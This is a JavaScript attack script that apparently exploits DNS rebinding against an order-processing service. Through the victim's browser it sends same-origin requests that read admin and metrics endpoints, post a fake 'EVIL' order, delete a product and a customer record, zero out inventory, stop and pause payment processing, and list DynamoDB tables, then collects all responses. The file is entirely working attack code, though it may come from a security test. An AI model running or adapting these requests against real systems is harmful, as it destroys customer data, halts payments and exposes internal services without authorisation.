// Calls of the page's own origin, which now leads to the server: the browser lets them pass and shows the responses.
return (async () => {
  const json = (method, body) => ({ method, body: JSON.stringify(body), headers: { 'content-type': 'application/json' } });
  const order = { customer_id: 'EVIL', email: 'evil@example.com', items: [{ sku: 'TSHIRT-BLK-M', quantity: 1 }] };
  const calls = [
    ['/', {}],
    ['/docs', {}],
    ['/metrics', {}],
    ['/health', {}],
    ['/api/v1/orders', {}],
    ['/api/v1/products', {}],
    ['/api/v1/admin/dead-letters', {}],
    ['/api/v1/orders', json('POST', order)],
    ['/api/v1/products/TSHIRT-BLK-M', { method: 'DELETE', headers: { 'x-orderflow': '1' } }],
    ['/api/v1/inventory/TSHIRT-BLK-M', json('POST', { set: 0 })],
    ['/api/v1/admin/faults', json('PUT', { stopped: ['payment'] })],
    ['/api/v1/admin/consumers/payment', json('PUT', { paused: true })],
    ['/api/v1/live', { headers: { accept: 'text/event-stream' } }],
    ['/api/v1/customers/C100', { method: 'DELETE', headers: { 'x-orderflow': '1' } }],
    ['/console.js', {}],
    ['/api/v1/admin/cache/warmup', { method: 'POST', headers: { 'x-orderflow': '1' } }],
    ['/', { method: 'POST', body: '{}', headers: { 'x-amz-target': 'DynamoDB_20120810.ListTables' } }],
  ];
  const answers = [];
  for (const [path, options] of calls) {
    const response = await fetch(path, options);
    answers.push({ path, status: response.status, text: await response.text() });
  }
  return answers;
})();
